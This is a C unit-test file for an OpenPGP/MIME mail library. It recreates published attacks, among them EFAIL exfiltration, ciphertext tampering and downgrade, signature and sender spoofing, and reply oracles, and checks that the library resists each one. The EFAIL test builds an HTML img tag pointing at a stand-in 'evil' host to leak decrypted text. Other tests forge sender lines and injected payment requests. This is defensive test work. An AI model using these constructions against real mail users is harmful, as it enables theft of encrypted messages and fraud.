/* SPDX-License-Identifier: ISC */
/* The papers' attacks on mail encryption, each under its name, made with our own keys. */
#include "letter_kit.h"
#include "openpgp/frame/armor.h"
#include "openpgp/frame/packet.h"

static struct person ann, bob, eve;
static struct people people;
static struct buf mail, made;

static int
setup(void **state)
{
	(void)state;
	person_new(&ann, "ann", "Ann <ann@a.test>", 4, true);
	person_new(&bob, "bob", "Bob <bob@a.test>", 4, true);
	person_new(&eve, "eve", "Eve <eve@a.test>", 4, true);
	people = (struct people){ .known = { &ann, &bob, &eve }, .count = 3 };
	buf_init(&mail, 1 << 20);
	buf_init(&made, 1 << 20);
	return 0;
}

static int
teardown(void **state)
{
	(void)state;
	person_done(&ann);
	person_done(&bob);
	person_done(&eve);
	buf_done(&mail);
	buf_done(&made);
	return 0;
}

static void
sealed_secret(struct buf *out)
{
	struct mime_letter l = letter_from(&ann, &bob, "The subject", "The secret text.\n");

	buf_clear(out);
	seal_for(&l, &ann, &bob, out);
}

/* From the message's Content-Type line on: what an attacker moves elsewhere. */
static struct slice
from_content_type(const struct buf *b)
{
	return slice_from(buf_slice(b), slice_search(buf_slice(b), SLICE("Content-Type: multipart/")));
}

/* Bob opens what the attacker made: nothing of the secret anywhere, and no status. */
static void
assert_nothing(const char *line)
{
	struct letter_opened *o = open_as(&bob, &people, buf_slice(&made));
	const struct letter_verdict *v = letter_opened_verdict(o);
	struct buf text;

	buf_init(&text, 1 << 20);
	(void)letter_opened_text(o, &text, NULL, NULL);
	if (v->status != LETTER_PLAIN && v->status != LETTER_CLOSED)
		fail_msg("%s: status %d", line, (int)v->status);
	assert_true(slice_search(letter_opened_source(o), SLICE("The secret text")) == SIZE_MAX);
	assert_true(slice_search(buf_slice(&text), SLICE("The secret text")) == SIZE_MAX);
	buf_done(&text);
	letter_opened_free(o);
}

/* EFAIL: the sealed letter between two pieces of HTML that would send it away. */
static void
efail_direct_exfiltration(void **state)
{
	(void)state;
	sealed_secret(&mail);
	buf_clear(&made);
	(void)buf_put_str(&made,
	    "From: ann@a.test\r\nContent-Type: multipart/mixed; boundary=e\r\n\r\n--e\r\nContent-Type: "
	    "text/html\r\n\r\n"
	    "<img src=\"http://evil/\r\n--e\r\n");
	(void)buf_put_slice(&made, from_content_type(&mail));
	(void)buf_put_str(&made, "\r\n--e\r\nContent-Type: text/html\r\n\r\n\">\r\n--e--\r\n");
	assert_nothing("direct exfiltration");
}

/* EFAIL: a third part inside of multipart/encrypted, or parts in other places: it is no layer, nothing is decrypted. */
static void
efail_bent_structure(void **state)
{
	static const char *const replace[][2] = {
		{ "--w\r\nContent-Type: application/pgp-encrypted",
		    "--w\r\n\r\nfirst\r\n--w\r\nContent-Type: application/pgp-encrypted" },
		{ "Content-Type: application/octet-stream", "Content-Type: text/html" },
		{ "Content-Type: application/pgp-encrypted", "Content-Type: text/html" },
		{ "protocol=\"application/pgp-encrypted\"", "protocol=\"x/y\"" },
		{ "\r\n--w--", "\r\n--w\r\n\r\nthird\r\n--w--" },
	};

	(void)state;
	for (size_t i = 0; i < sizeof replace / sizeof replace[0]; i++) {
		size_t at;

		buf_clear(&mail);
		buf_clear(&made);
		wrap_encrypted("From: ann@a.test\r\n", SLICE("\r\nThe secret text.\r\n"), &ann, &bob, &mail);
		at = slice_search(buf_slice(&mail), slice_str(replace[i][0]));
		assert_true(at != SIZE_MAX);
		(void)buf_put_slice(&made, slice_sub(buf_slice(&mail), 0, at));
		(void)buf_put_str(&made, replace[i][1]);
		(void)buf_put_slice(&made, slice_from(buf_slice(&mail), at + strlen(replace[i][0])));
		assert_nothing(replace[i][1]);
	}
}

/* The armored message inside of `mail` as packets. */
static void
dearmor(struct buf *packets)
{
	enum pgp_armor_kind kind;
	size_t at = 0;

	assert_int_equal(pgp_armor_parse(buf_slice(&mail), &at, &kind, packets, &unit_error), 1);
}

/* A mail around these packets. */
static void
remail(struct slice packets)
{
	buf_clear(&made);
	(void)buf_put_str(&made,
	    "From: ann@a.test\r\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; "
	    "boundary=w\r\n\r\n"
	    "--w\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n"
	    "--w\r\nContent-Type: application/octet-stream\r\n\r\n");
	assert_ok(pgp_armor_write(PGP_ARMOR_MESSAGE, true, packets, &made, &unit_error));
	(void)buf_put_str(&made, "\r\n--w--\r\n");
}

/* EFAIL: any changed, cut or downgraded ciphertext shows nothing, never a part of the text. */
static void
efail_gadgets(void **state)
{
	size_t container = 0, at = 0;
	struct pgp_packet p;
	struct buf packets;

	(void)state;
	buf_clear(&mail);
	wrap_encrypted("", SLICE("\r\nThe secret text.\r\n"), &ann, &bob, &mail);
	buf_init(&packets, 1 << 20);
	dearmor(&packets);
	for (size_t i = 0; i < packets.len; i += 3) {
		packets.data[i] ^= (uint8_t)(1u << i % 8);
		remail(buf_slice(&packets));
		assert_nothing("flipped");
		packets.data[i] ^= (uint8_t)(1u << i % 8);
	}
	for (size_t cut = 0; cut < packets.len; cut += 11) {
		remail(slice_sub(buf_slice(&packets), 0, cut));
		assert_nothing("cut");
	}
	while (pgp_packet_next(buf_slice(&packets), &at, &p, NULL) == 1) {
		if (p.header.type == PGP_PKESK)
			container = at;
	}
	/* Tag 18 made tag 9: no integrity protection. Packet format with the two top bits set. */
	assert_int_equal(packets.data[container] & 0x3f, PGP_SEIPD);
	packets.data[container] = 0xc0 | PGP_SED;
	remail(buf_slice(&packets));
	assert_nothing("downgraded to tag 9");
	buf_done(&packets);
}

/* Johnny, you are fired: a signature that covers only a part of what is shown gives no status. */
static void
johnny_partially_signed(void **state)
{
	struct mime_letter l = letter_from(&ann, &bob, "Order", "Please pay.\n");
	struct letter_opened *o;

	(void)state;
	buf_clear(&mail);
	buf_clear(&made);
	sign_as(&l, &ann, &mail);
	(void)buf_put_str(&made,
	    "From: ann@a.test\r\nContent-Type: multipart/mixed; boundary=j\r\n\r\n--j\r\n\r\nPay a million to "
	    "Eve.\r\n--j\r\n");
	(void)buf_put_slice(&made, from_content_type(&mail));
	(void)buf_put_str(&made, "\r\n--j--\r\n");
	o = open_as(&bob, &people, buf_slice(&made));
	assert_status(o, LETTER_PLAIN, LETTER_SIGNATURE_NONE, __LINE__);
	assert_true(letter_opened_verdict(o)->errant);
	letter_opened_free(o);
	/* A third part behind the signature: it is no layer any more. */
	buf_clear(&mail);
	buf_clear(&made);
	wrap_signed("From: ann@a.test\r\n", SLICE("Content-Type: text/plain\r\n\r\nPlease pay.\r\n"), &ann, &mail);
	(void)buf_put_slice(&made, slice_sub(buf_slice(&mail), 0, slice_search(buf_slice(&mail), SLICE("\r\n--s--"))));
	(void)buf_put_str(&made, "\r\n--s\r\n\r\nPay a million to Eve.\r\n--s--\r\n");
	o = open_as(&bob, &people, buf_slice(&made));
	assert_int_equal(letter_opened_verdict(o)->status, LETTER_PLAIN);
	assert_true(letter_opened_verdict(o)->signature != LETTER_SIGNATURE_GOOD);
	letter_opened_free(o);
}

/* Ann's signed payload under somebody else's sender line, however that is dressed up. */
static void
johnny_sender_tricks(void **state)
{
	static const struct {
		const char *head;
		enum letter_signature want;
	} rows[] = {
		{ "From: ann@a.test\r\n", LETTER_SIGNATURE_GOOD },
		{ "From: Eve <eve@a.test>\r\n", LETTER_SIGNATURE_OTHER },
		{ "From: \"ann@a.test\" <eve@a.test>\r\n", LETTER_SIGNATURE_OTHER },
		{ "From: ann@a.test, eve@a.test\r\n", LETTER_SIGNATURE_OTHER },
		{ "From: eve@a.test\r\nFrom: ann@a.test\r\n", LETTER_SIGNATURE_OTHER },
		{ "From: eve@a.test\r\nSender: ann@a.test\r\nReply-To: ann@a.test\r\n", LETTER_SIGNATURE_OTHER },
		{ "From: ann@a.test <eve@a.test>\r\n", LETTER_SIGNATURE_OTHER },
		{ "From: friends: ann@a.test;\r\n", LETTER_SIGNATURE_OTHER },
		{ "Subject: no sender at all\r\n", LETTER_SIGNATURE_OTHER },
		{ "From: ann@a.test (eve@a.test)\r\n", LETTER_SIGNATURE_GOOD },
	};

	(void)state;
	for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
		struct letter_opened *o;

		buf_clear(&made);
		wrap_signed(rows[i].head, SLICE("Content-Type: text/plain\r\n\r\nI agree.\r\n"), &ann, &made);
		o = open_as(&bob, &people, buf_slice(&made));
		assert_status(
		    o, rows[i].want == LETTER_SIGNATURE_GOOD ? LETTER_SIGNED : LETTER_PLAIN, rows[i].want, (int)i);
		letter_opened_free(o);
	}
}

/* The sender inside differs from the sender outside, and nobody vouches: the outer one is shown, with a warning. */
static void
johnny_inner_sender(void **state)
{
	static const char inner[] =
	    "From: ann@a.test\r\nSubject: hi\r\nContent-Type: text/plain; hp=\"cipher\"\r\n\r\nText\r\n";
	struct letter_opened *o;
	struct slice from;

	(void)state;
	buf_clear(&made);
	wrap_encrypted("From: eve@a.test\r\n", slice_str(inner), NULL, &bob, &made);
	o = open_as(&bob, &people, buf_slice(&made));
	assert_status(o, LETTER_ENCRYPTED, LETTER_SIGNATURE_NONE, __LINE__);
	assert_field(o, "From", "eve@a.test", LETTER_FIELD_UNPROTECTED);
	assert_true(letter_opened_verdict(o)->from_differs);
	assert_true(noted(o, "Beware"));
	/* An answer goes only to whom the protected part names (RFC 9788 4.4.4). */
	assert_true(letter_opened_reply_field(o, "From", &from));
	assert_slice(from, "ann@a.test");
	letter_opened_free(o);
	/* Eve signs for Ann: still not Ann's. */
	buf_clear(&made);
	wrap_encrypted("From: eve@a.test\r\n", slice_str(inner), &eve, &bob, &made);
	o = open_as(&bob, &people, buf_slice(&made));
	assert_status(o, LETTER_ENCRYPTED, LETTER_SIGNATURE_OTHER, __LINE__);
	assert_field(o, "From", "eve@a.test", LETTER_FIELD_UNPROTECTED);
	letter_opened_free(o);
	/* Ann did sign: a resent letter shows her. */
	buf_clear(&made);
	wrap_encrypted("From: list@a.test\r\n", slice_str(inner), &ann, &bob, &made);
	o = open_as(&bob, &people, buf_slice(&made));
	assert_status(o, LETTER_SEALED, LETTER_SIGNATURE_GOOD, __LINE__);
	assert_field(o, "From", "ann@a.test", LETTER_FIELD_BOTH);
	letter_opened_free(o);
}

/* A changed text or header lowers the status without a word of alarm beyond the note, and shows what came. */
static void
broken_signature_is_no_signature(void **state)
{
	static const char *const changes[][2] = { { "Please pay.", "Please PAY." },
		{ "\r\nSubject: Order\r\nMessage", "\r\nSubject: ORDER\r\nMessage" } };
	struct mime_letter l = letter_from(&ann, &bob, "Order", "Please pay.\n");

	(void)state;
	for (size_t i = 0; i < 2; i++) {
		struct letter_opened *o;
		size_t at;

		buf_clear(&made);
		sign_as(&l, &ann, &made);
		at = slice_search(from_content_type(&made), slice_str(changes[i][0])) +
		    (size_t)(from_content_type(&made).data - made.data);
		memcpy(made.data + at, changes[i][1], strlen(changes[i][1]));
		o = open_as(&bob, &people, buf_slice(&made));
		assert_status(o, LETTER_PLAIN, LETTER_SIGNATURE_BAD, __LINE__);
		assert_false(letter_opened_verdict(o)->headers_protected);
		assert_field(o, "Subject", "Order", LETTER_FIELD_UNPROTECTED);
		letter_opened_free(o);
	}
	/* The outer subject changed: what is shown is the signed one. */
	buf_clear(&made);
	sign_as(&l, &ann, &made);
	memcpy(made.data + slice_search(buf_slice(&made), SLICE("Subject: Order")), "Subject: Reply", 14);
	{
		struct letter_opened *o = open_as(&bob, &people, buf_slice(&made));

		assert_status(o, LETTER_SIGNED, LETTER_SIGNATURE_GOOD, __LINE__);
		assert_field(o, "Subject", "Order", LETTER_FIELD_SIGNED);
		letter_opened_free(o);
	}
}

/* Claims of protection in places where they mean nothing (RFC 9788 2.1.1). */
static void
claims_without_protection(void **state)
{
	static const char *const payloads[] = {
		/* deeper than the payload's root */
		"Content-Type: multipart/mixed; boundary=c\r\n\r\n--c\r\nSubject: fake\r\nFrom: "
		"ann@a.test\r\nContent-Type: text/plain; hp=\"cipher\"\r\n\r\nx\r\n--c--\r\n",
		"Content-Type: message/rfc822\r\n\r\nSubject: fake\r\nContent-Type: text/plain; "
		"hp=\"clear\"\r\n\r\nx\r\n",
		"Subject: fake\r\nContent-Type: text/plain; hp=\"yes\"\r\n\r\nx\r\n",
	};

	(void)state;
	for (size_t i = 0; i < sizeof payloads / sizeof payloads[0]; i++) {
		struct letter_opened *o;

		buf_clear(&made);
		wrap_encrypted("From: eve@a.test\r\nSubject: outer\r\n", slice_str(payloads[i]), NULL, &bob, &made);
		o = open_as(&bob, &people, buf_slice(&made));
		assert_status(o, LETTER_ENCRYPTED, LETTER_SIGNATURE_NONE, (int)i);
		assert_field(o, "Subject", "outer", LETTER_FIELD_UNPROTECTED);
		assert_field(o, "From", "eve@a.test", LETTER_FIELD_UNPROTECTED);
		letter_opened_free(o);
	}
	/* hp="cipher" on a letter that is only signed hides nothing. */
	buf_clear(&made);
	wrap_signed("From: ann@a.test\r\nSubject: x\r\n",
	    SLICE("From: ann@a.test\r\nSubject: hidden?\r\nContent-Type: text/plain; hp=\"cipher\"\r\n\r\nx\r\n"), &ann,
	    &made);
	{
		struct letter_opened *o = open_as(&bob, &people, buf_slice(&made));

		assert_status(o, LETTER_SIGNED, LETTER_SIGNATURE_GOOD, __LINE__);
		assert_field(o, "Subject", "hidden?", LETTER_FIELD_SIGNED);
		assert_false(letter_opened_verdict(o)->subject_hidden);
		letter_opened_free(o);
	}
}

/* Re: What's up Johnny: a ciphertext hidden in a harmless letter must not come back in the answer. */
static void
reply_oracle(void **state)
{
	static const char *const around[][2] = {
		{ "From: eve@a.test\r\nContent-Type: multipart/mixed; boundary=r\r\n\r\n--r\r\n\r\nHow are "
		  "you?\r\n--r\r\n",
		    "\r\n--r--\r\n" },
		{ "From: eve@a.test\r\nContent-Type: multipart/mixed; boundary=r\r\n\r\n--r\r\n\r\nHow are "
		  "you?\r\n--r\r\nContent-Type: message/rfc822\r\n\r\n",
		    "\r\n--r--\r\n" },
		{ "From: eve@a.test\r\nContent-Type: multipart/alternative; boundary=r\r\n\r\n--r\r\n",
		    "\r\n--r\r\n\r\nHow are you?\r\n--r--\r\n" },
		{ "From: eve@a.test\r\nContent-Type: multipart/related; boundary=r\r\n\r\n--r\r\n\r\nHow are "
		  "you?\r\n--r\r\n",
		    "\r\n--r--\r\n" },
	};
	struct slice value;
	struct letter_opened *o;

	(void)state;
	sealed_secret(&mail);
	for (size_t i = 0; i < sizeof around / sizeof around[0]; i++) {
		buf_clear(&made);
		(void)buf_put_str(&made, around[i][0]);
		(void)buf_put_slice(&made, from_content_type(&mail));
		(void)buf_put_str(&made, around[i][1]);
		assert_nothing(around[i][0]);
		o = open_as(&bob, &people, buf_slice(&made));
		assert_text(o, "How are you?");
		letter_opened_free(o);
		/* The same inside of an envelope of Eve's own: deeper layers stay closed there too. */
		buf_clear(&mail);
		wrap_encrypted("From: eve@a.test\r\n", buf_slice(&made), &eve, &bob, &mail);
		o = open_as(&bob, &people, buf_slice(&mail));
		assert_status(o, LETTER_SEALED, LETTER_SIGNATURE_GOOD, __LINE__);
		assert_text(o, "How are you?");
		assert_true(slice_search(letter_opened_source(o), SLICE("The secret text")) == SIZE_MAX);
		letter_opened_free(o);
		sealed_secret(&mail);
	}
	/* Fields that an attacker adds outside direct no answer. */
	buf_clear(&made);
	(void)buf_put_str(&made, "Reply-To: eve@a.test\r\nCc: eve@a.test\r\nMail-Followup-To: eve@a.test\r\n");
	(void)buf_put_slice(&made, buf_slice(&mail));
	o = open_as(&bob, &people, buf_slice(&made));
	assert_status(o, LETTER_SEALED, LETTER_SIGNATURE_GOOD, __LINE__);
	assert_false(letter_opened_reply_field(o, "Reply-To", &value));
	assert_false(letter_opened_reply_field(o, "Cc", &value));
	assert_false(letter_opened_field(o, "Cc", &value, NULL));
	assert_true(letter_opened_reply_field(o, "From", &value));
	assert_slice(value, "ann@a.test");
	letter_opened_free(o);
}

/* Encrypted inside of a signature: the outer signature says nothing about the author. */
static void
signature_around_encryption(void **state)
{
	struct letter_opened *o;

	(void)state;
	buf_clear(&mail);
	wrap_encrypted("", SLICE("\r\nThe secret text.\r\n"), NULL, &bob, &mail);
	buf_clear(&made);
	wrap_signed("From: eve@a.test\r\n", buf_slice(&mail), &eve, &made);
	o = open_as(&bob, &people, buf_slice(&made));
	assert_status(o, LETTER_ENCRYPTED, LETTER_SIGNATURE_NONE, __LINE__);
	letter_opened_free(o);
}

/* RFC 9580 section 13.12: what Ann signed and sealed for Eve does not count when Eve seals it for Bob. */
static void
surreptitious_forwarding(void **state)
{
	static const struct {
		const struct person *named;
		enum letter_signature signature;
	} rows[] = { { NULL, LETTER_SIGNATURE_GOOD }, { &bob, LETTER_SIGNATURE_GOOD },
		{ &eve, LETTER_SIGNATURE_INVALID } };
	struct letter_opened *o;

	(void)state;
	for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
		bool good = rows[i].signature == LETTER_SIGNATURE_GOOD;

		kit_named = rows[i].named;
		buf_clear(&mail);
		wrap_encrypted("From: ann@a.test\r\n", SLICE("\r\nYou are dismissed.\r\n"), &ann, &bob, &mail);
		o = open_as(&bob, &people, buf_slice(&mail));
		assert_status(o, good ? LETTER_SEALED : LETTER_ENCRYPTED, rows[i].signature, __LINE__);
		assert_int_equal(noted(o, "other readers"), !good);
		letter_opened_free(o);
		/* Taken out of its encryption it does not count either. */
		buf_clear(&mail);
		wrap_signed("From: ann@a.test\r\n", SLICE("\r\nYou are dismissed.\r\n"), &ann, &mail);
		o = open_as(&bob, &people, buf_slice(&mail));
		assert_status(o, rows[i].named == NULL ? LETTER_SIGNED : LETTER_PLAIN,
		    rows[i].named == NULL ? LETTER_SIGNATURE_GOOD : LETTER_SIGNATURE_INVALID, __LINE__);
		letter_opened_free(o);
	}
	kit_named = NULL;
}

/* Nothing is asked of the certificate table for mail without signatures, and little for mail with many. */
static void
lookups_are_bounded(void **state)
{
	struct letter_opened *o;

	(void)state;
	people.asked = 0;
	o = open_as(&bob, &people, SLICE("From: a@b\r\n\r\nx\r\n"));
	letter_opened_free(o);
	assert_int_equal(people.asked, 0);
}

int
main(void)
{
	const struct CMUnitTest tests[] = { UNIT_TEST(efail_direct_exfiltration), UNIT_TEST(efail_bent_structure),
		UNIT_TEST(efail_gadgets), UNIT_TEST(johnny_partially_signed), UNIT_TEST(johnny_sender_tricks),
		UNIT_TEST(johnny_inner_sender), UNIT_TEST(broken_signature_is_no_signature),
		UNIT_TEST(claims_without_protection), UNIT_TEST(reply_oracle), UNIT_TEST(signature_around_encryption),
		UNIT_TEST(surreptitious_forwarding), UNIT_TEST(lookups_are_bounded) };

	cmocka_set_message_output(CM_OUTPUT_TAP);
	return cmocka_run_group_tests(tests, setup, teardown);
}
